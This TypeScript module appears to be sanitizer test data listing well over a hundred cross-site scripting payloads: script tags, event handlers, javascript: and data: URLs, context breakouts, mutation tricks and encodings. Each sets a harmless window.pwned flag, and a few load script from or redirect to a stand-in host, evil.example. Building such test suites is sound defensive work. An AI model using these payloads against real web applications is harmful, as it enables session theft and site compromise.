// Texts that run in a browser which takes them for markup, by what they rely on. Each sets window.pwned,
// and wears data-pwned where it has an element, so that one which cannot run is noticed too.

const run = 'window.pwned=1'
const quoted = ['', '"', "'", '`'] as const

const tags = [
  `<script>${run}</script>`,
  `<ScRiPt data-pwned>${run}</sCrIpT>`,
  `<script/x data-pwned>${run}</script>`,
  `<script\n>${run}</script >`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run};//<</script>`,
  `<script>${run}`,
  `<svg data-pwned><script>${run}</script></svg>`,
  `<svg><script xlink:href=data:,${run} /></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<noscript><p title="</noscript><img data-pwned src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
]

const handlers = [
  `<img data-pwned src=x onerror=${run}>`,
  `<img data-pwned src=x OnErRoR="${run}">`,
  `<img/data-pwned/src=x/onerror=${run}>`,
  `<img data-pwned src=x onerror\n=\n"${run}">`,
  `<img data-pwned src="x\`><script>${run}</script>"\`onerror=${run}>`,
  `<image data-pwned src=x onerror=${run}>`,
  `<svg data-pwned onload=${run}>`,
  `<svg/data-pwned/onload=${run}>`,
  `<svg><animate data-pwned onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set data-pwned onbegin=${run} attributeName=x to=1>`,
  `<svg><image data-pwned href=x onerror=${run}>`,
  `<body data-pwned onload=${run}>`,
  `<video data-pwned src=x onerror=${run}>`,
  `<video><source data-pwned onerror=${run} src=x></video>`,
  `<audio data-pwned src=x onerror=${run}>`,
  `<input data-pwned autofocus onfocus=${run}>`,
  `<select data-pwned autofocus onfocus=${run}>`,
  `<textarea data-pwned autofocus onfocus=${run}>`,
  `<button data-pwned autofocus onfocus=${run}>a</button>`,
  `<details data-pwned open ontoggle=${run}>`,
  `<marquee data-pwned onstart=${run}>`,
  `<object data-pwned data=x onerror=${run}></object>`,
  `<embed data-pwned src=data:image/svg+xml,x onload=${run}>`,
  `<iframe data-pwned onload=${run}></iframe>`,
  `<link data-pwned rel=stylesheet href=data:,* onload=${run}>`,
  `<style data-pwned onload=${run}></style>`,
  `<div data-pwned style=animation:spin onanimationstart=${run}>a</div>`,
  `<p data-pwned contenteditable autofocus onfocus=${run}>a</p>`,
  `<dialog data-pwned open onclose=${run}><form method=dialog>`,
  `<xss data-pwned id=x tabindex=1 onfocus=${run} autofocus></xss>`,
  `<img data-pwned src=x onerror=window['pw'+'ned']=1>`,
  `<img data-pwned src=x onerror=&#119;indow.pwned=1>`,
  `<img data-pwned src=x onerror="&#x77;indow.pwned&#61;1">`,
  `<img data-pwned src=x onerror=eval(atob('d2luZG93LnB3bmVkPTE='))>`,
  `<img data-pwned src=x onerror=\\u0077indow.pwned=1>`,
  `<img data-pwned src=x onerror=alert(1)>`,
  `<img data-pwned src=x onerror=confirm\`1\`>`,
]

const addresses = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1',
  ' javascript:window.pwned=1',
  'java\tscript:window.pwned=1',
  'java\nscript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  'javascript&colon;window.pwned=1',
  '&#106;avascript:window.pwned=1',
  'javascript://%0awindow.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
  'vbscript:window.pwned=1',
  '//evil.example/x.js',
]

const carriers = (address: string) => [
  `<a data-pwned href="${address}">a</a>`,
  `<iframe data-pwned src="${address}"></iframe>`,
  `<form data-pwned action="${address}"><button>a</button></form>`,
]

const moreCarriers = [
  `<a data-pwned href=x formaction=javascript:${run}>a</a>`,
  `<button data-pwned formaction=javascript:${run} form=x>a</button>`,
  `<object data-pwned data=javascript:${run}></object>`,
  `<embed data-pwned src=javascript:${run}>`,
  `<svg><a data-pwned xlink:href=javascript:${run}><text>a</text></a></svg>`,
  `<svg><use data-pwned href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<math data-pwned href=javascript:${run}>a</math>`,
  `<base data-pwned href=javascript:${run}//>`,
  `<base data-pwned href=//evil.example/>`,
  `<meta data-pwned http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta data-pwned http-equiv=refresh content="0;url=//evil.example/">`,
  `<link data-pwned rel=import href=data:text/html,<script>${run}</script>>`,
  `<iframe data-pwned srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe data-pwned srcdoc=&lt;script&gt;parent.pwned=1&lt;/script&gt;></iframe>`,
]

const leavings = quoted.flatMap((sign) => [
  `${sign}><img data-pwned src=x onerror=${run}>`,
  `${sign} autofocus onfocus=${run} data-pwned x=${sign}`,
  `${sign}-(${run})-${sign}`,
  `${sign};${run};//`,
])

const endings = [
  `</script><script>${run}</script>`,
  `</SCRIPT ><img data-pwned src=x onerror=${run}>`,
  `</style><img data-pwned src=x onerror=${run}>`,
  `</title><img data-pwned src=x onerror=${run}>`,
  `</textarea><img data-pwned src=x onerror=${run}>`,
  `</option></select><img data-pwned src=x onerror=${run}>`,
  `</template><img data-pwned src=x onerror=${run}>`,
  `</noscript><img data-pwned src=x onerror=${run}>`,
  `--><img data-pwned src=x onerror=${run}>`,
  `--!><img data-pwned src=x onerror=${run}>`,
  `]]><img data-pwned src=x onerror=${run}>`,
  `<!--<script>`,
  `<!--<img data-pwned src="--><img data-pwned src=x onerror=${run}//">`,
  `<![CDATA[<img data-pwned src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img data-pwned src=x onerror=${run}>`,
  `\\"};${run};//`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `\u2028${run}\u2029`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{"@type":"Product"}</script><script>${run}</script>`,
]

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img data-pwned title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img data-pwned src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img data-pwned src onerror=${run}>`,
  `<table><td data-pwned background=javascript:${run}>`,
  `<p style="background:url(javascript:${run})" data-pwned>a</p>`,
  `<div style="width:expression(${run})" data-pwned>a</div>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<a id=pwned data-pwned>a</a><a id=pwned name=x data-pwned>b</a>`,
  `<img name=getElementById data-pwned src=x>`,
  `<form id=__proto__ data-pwned><input name=pwned></form>`,
  `＜img src=x onerror=${run}＞`,
  `%3Cimg src=x onerror=${run}%3E`,
  `&lt;img data-pwned src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<\u0000img data-pwned src=x onerror=${run}>`,
  `<img data-pwned src=x\u00a0onerror=${run}>`,
]

/** Every one of them, well over a hundred of distinct kinds. */
export const scriptPayloads = [
  ...[tags, handlers, endings, mutations, leavings].flat(),
  ...[addresses.flatMap(carriers), moreCarriers, addresses].flat(),
]

/** One or two of every kind. */
export const fewScriptPayloads = [
  ...[tags[0], tags[9], handlers[0], handlers[24], addresses[0], endings[0], endings[3]],
  ...[endings[17], leavings[5], mutations[0], mutations[1], moreCarriers[12]],
].filter((text) => text !== undefined)
